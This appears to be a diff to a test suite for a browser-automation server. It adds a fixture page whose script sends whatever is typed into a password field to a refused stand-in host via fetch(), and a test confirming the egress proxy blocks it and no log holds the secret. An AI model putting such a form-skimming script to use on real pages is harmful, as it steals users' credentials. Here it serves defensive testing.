@@ -102,6 +102,17 @@ def login_site() -> Iterator[Site]:
                     "</body></html>"
                 ).encode()
                 ctype = f"text/html; charset={charset}" if charset else "text/html"
+            elif parsed.path == "/beacon":
+                # The bound page sends what was typed to a host the policy refuses (127.0.0.2 stands
+                # in for one elsewhere; the egress proxy refuses it before connecting).
+                target = query.get("to", [""])[0]
+                body = (
+                    "<!doctype html><title>Beacon</title><input id=pw>"
+                    "<script>document.getElementById('pw').addEventListener('change', e => {"
+                    f"fetch('{target}/p/' + encodeURIComponent(e.target.value)).catch(() => {{}});"
+                    "document.title = 'sent';});</script>"
+                ).encode()
+                ctype = "text/html; charset=utf-8"
             elif parsed.path == "/landing":
                 with site.lock:
                     site.received.append(parsed.query)
@@ -249,4 +260,26 @@ def test_typed_text_comes_back_to_the_agent_but_no_record_holds_it(start_server)
     texts |= {f"OTLP body {n}": body for n, body in enumerate(bodies)}
     assert any(b"browser_shell.audit" in b for b in bodies), "the OTLP receiver got no records"
     found = leaks(typed, texts) + leaks("quiet search", texts)
+    assert not found, "\n".join(found)
+
+
+def test_a_secret_a_page_sends_to_a_refused_host_reaches_no_diagnostic_line(start_server) -> None:
+    with login_site() as site:
+        srv = start_server(extra_args=["--secrets", str(secrets_file(site))])
+        beacon = site.url(f"/beacon?to={urllib.parse.quote(f'http://127.0.0.2:{site.port}')}")
+        srv.ok("beacon", ["open", beacon])
+        srv.ok("beacon", ["fill", "#pw", "{{secret:s0}}"])
+        srv.ok("beacon", ["press", "Tab"])  # `change` fires as the field loses focus
+        deadline = time.monotonic() + 15
+        blocked = []
+        while not blocked and time.monotonic() < deadline:
+            records = [json.loads(line) for line in srv.cfg.audit_log.read_text().splitlines()]
+            blocked = [r for r in records if r.get("rule") == "request.blocked" and "127.0.0.2" in r.get("reason", "")]
+            time.sleep(0.1)
+        srv.stop()
+    # Positive control: the page did send it, and the refusal is on the record (with its placeholder).
+    assert blocked, "the page's request to the refused host was never refused on the record"
+    assert "{{secret:s0}}" in blocked[0]["reason"], blocked[0]
+    texts = {"server stderr": srv.cfg.stderr_log.read_text(), "audit log": srv.cfg.audit_log.read_text()}
+    found = leaks(VALUES[0], texts)
     assert not found, "\n".join(found)
